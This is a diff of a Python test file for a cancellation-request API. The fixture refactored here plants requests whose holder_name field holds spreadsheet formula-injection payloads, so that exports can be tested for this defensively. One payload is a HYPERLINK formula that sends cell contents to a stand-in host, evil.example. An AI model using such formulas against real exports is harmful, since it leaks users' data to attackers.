@@ -20,7 +20,7 @@ from cancelflow.db import get_engine, transaction
 from cancelflow.models import CancellationRequest, ExportFormat
 from cancelflow.services import exports, tags
 from cancelflow.services.queries import RequestFilters
-from tests.factories import VALID_IBAN, load, order_payload, token_headers
+from tests.factories import VALID_IBAN, load, new_order, order_payload, token_headers
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?"&A1,"Click for refund")',
@@ -44,9 +44,8 @@ def planted(client: TestClient, storefront: dict[str, str]) -> list[int]:
     """One request per payload, created by a storefront token, tagged with the payload too."""
     ids = []
     for payload in PAYLOADS:
-        order = order_payload(method="bank_transfer", channel=1)
-        load({"orders": [order]})
-        body = {"order_item": order["items"][0]["id"], "reason": 1, "quantity": 1}
+        order = new_order(method="bank_transfer", channel=1)
+        body = {"order_item": order.item_id, "reason": 1, "quantity": 1}
         body |= {"iban": VALID_IBAN, "holder_name": payload}
         response = client.post("/api/v1/cancellation_requests/", headers=storefront, json=body)
         assert response.status_code == 201, response.text
